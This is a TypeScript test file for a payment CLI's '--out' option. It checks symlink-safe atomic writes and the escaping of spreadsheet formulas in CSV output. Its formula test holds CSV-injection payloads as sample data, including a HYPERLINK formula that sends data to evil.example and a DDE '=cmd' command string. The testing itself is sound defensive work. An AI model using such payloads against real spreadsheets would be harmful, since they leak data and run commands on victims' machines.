// `--out`: the results file is made beside its destination under a temporary name of its own,
// created exclusively (a symlink planted in a shared folder is never written through), then
// renamed into place; and in CSV, a cell a spreadsheet would run as a formula is made text.
import { lstatSync, mkdtempSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestSandbox, type TestSandbox } from '../../../helpers/e2e.js';

let t: TestSandbox;

beforeAll(async () => {
  t = await startTestSandbox();
}, 30_000);
afterAll(async () => {
  await t?.close();
});

describe('--out in a shared folder', () => {
  for (const ext of ['csv', 'jsonl']) {
    it(`.${ext}: symlinks planted at the destination and at the temporary name used before are not written through`, async () => {
      const shared = mkdtempSync(join(tmpdir(), 'svc-out-shared-'));
      const input = join(mkdtempSync(join(tmpdir(), 'svc-out-in-')), `links-${ext}.csv`);
      // A payout of its own (the same row in both files would be refused as a repeat: batch_ambiguous).
      writeFileSync(input, `to,amount,memo\n@acme,0.5,link-test-${ext}\n`);
      const victims = [join(shared, 'victim-temp.txt'), join(shared, 'victim-dest.txt')];
      for (const v of victims) writeFileSync(v, 'precious\n', { mode: 0o644 });
      const out = join(shared, `results.${ext}`);
      const planted = `${out}.tmp-${process.pid}`; // the name the earlier code wrote to (this process runs main)
      symlinkSync(victims[0]!, planted);
      symlinkSync(victims[1]!, out);

      const r = await t.svc(['transfer', 'batch', input, '--out', out]);
      expect(r.code, r.stderr).toBe(0);
      for (const v of victims) {
        expect(readFileSync(v, 'utf8')).toBe('precious\n');
        expect(statSync(v).mode & 0o777).toBe(0o644);
      }
      expect(lstatSync(out).isSymbolicLink()).toBe(false); // the link itself was replaced, never followed
      expect(statSync(out).mode & 0o777).toBe(0o600);
      expect(readFileSync(out, 'utf8')).toMatch(new RegExp(`link-test-${ext}`));
      expect(lstatSync(planted).isSymbolicLink()).toBe(true);
      expect(readdirSync(shared).sort()).toEqual([`results.${ext}`, `results.${ext}.tmp-${process.pid}`, 'victim-dest.txt', 'victim-temp.txt']);
    });
  }

  it('a folder that does not exist is a one-line error naming --out, before anything is sent', async () => {
    const input = join(mkdtempSync(join(tmpdir(), 'svc-out-in-')), 'nofolder.csv');
    writeFileSync(input, 'to,amount,memo\n@acme,0.5,nofolder-test\n');
    const before = (await t.svcJson<unknown[]>(['transfer', 'ls', '--all'])).length;
    const r = await t.svc(['transfer', 'batch', input, '--out', join(tmpdir(), 'svc-no-such-folder', 'r.csv')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^error: --out "[^"]+r\.csv" cannot be written: its folder does not exist \(invalid_argument\)$/m);
    const j = await t.svc(['--json', 'transfer', 'batch', input, '--out', join(tmpdir(), 'svc-no-such-folder', 'r.csv')]);
    expect(j).toMatchObject({ code: 2, stdout: '' }); // one document: the error, on stderr
    expect(JSON.parse(j.stderr).error.code).toBe('invalid_argument');
    expect((await t.svcJson<unknown[]>(['transfer', 'ls', '--all'])).length).toBe(before);
  });
});

describe('--out results.csv and spreadsheet formulas', () => {
  it('a memo, recipient or amount that begins with = + - @ tab or CR is written with a leading \' (OWASP)', async () => {
    const memos = ['=HYPERLINK("http://evil.example/?d="&A1,"pay")', '@SUM(1)', '+1', '-1', '\tTAB', '\rCR', 'plain'];
    const dir = mkdtempSync(join(tmpdir(), 'svc-out-formula-'));
    const input = join(dir, 'formulas.jsonl');
    const rows = memos.map((memo) => ({ to: '@acme', amount: '0.01', memo }));
    rows.push({ to: '=cmd|\' /C calc\'!A0', amount: '-1', memo: 'bad row' }); // invalid, but still reported
    writeFileSync(input, `${rows.map((x) => JSON.stringify(x)).join('\n')}\n`);
    const out = join(dir, 'results.csv');
    const r = await t.svc(['transfer', 'batch', input, '--out', out, '--skip-invalid']);
    expect(r.code, r.stderr).toBe(0);
    const records = parse(readFileSync(out, 'utf8'), { columns: true, relax_quotes: false }) as Array<Record<string, string>>;
    expect(records.map((x) => x.memo)).toEqual([...memos.slice(0, -1).map((m) => `'${m}`), 'plain', 'bad row']);
    expect(records.slice(0, -1).every((x) => x.to === "'@acme" && x.status === 'sent')).toBe(true);
    expect(records.at(-1)).toMatchObject({ to: "'=cmd|' /C calc'!A0", amount: "'-1", status: 'skipped' });
    // No cell of the file begins with a formula character.
    for (const rec of records) for (const v of Object.values(rec)) expect(v, JSON.stringify(rec)).not.toMatch(/^[=+\-@\t\r]/);
  });
});
